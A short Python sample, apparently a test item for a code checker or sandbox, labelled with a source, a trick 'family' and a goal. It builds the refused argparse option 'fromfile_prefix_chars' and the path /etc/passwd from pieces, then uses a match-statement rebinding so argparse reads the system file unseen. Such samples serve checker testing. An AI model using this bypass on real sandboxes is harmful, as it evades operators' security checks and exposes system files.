# source: PEP 634 mapping rest capture; argparse _SubParsersAction.add_parser(**kwargs) -> self._parser_class(**kwargs) (ArgumentParser(fromfile_prefix_chars=...)) -> _read_args_from_files opens the path
# family: binding form not followed (match **rest) -> run-time keyword into add_parser reaches a refused ArgumentParser option
# goal: reads /etc/passwd (a path the check never saw) as arguments
import argparse
k = "-".join(["fromfile", "prefix", "chars"]).replace("-", "_")
target = "/".join(["", "etc", "passwd"])
p = argparse.ArgumentParser()
sub = p.add_subparsers(dest="cmd")
opts = {"description": "run the strategy"}
match {k: "@"}:
    case {**opts}:
        pass
sub.add_parser("run", **opts)
args, rest = p.parse_known_args(["run", "@" + target])
print(rest)
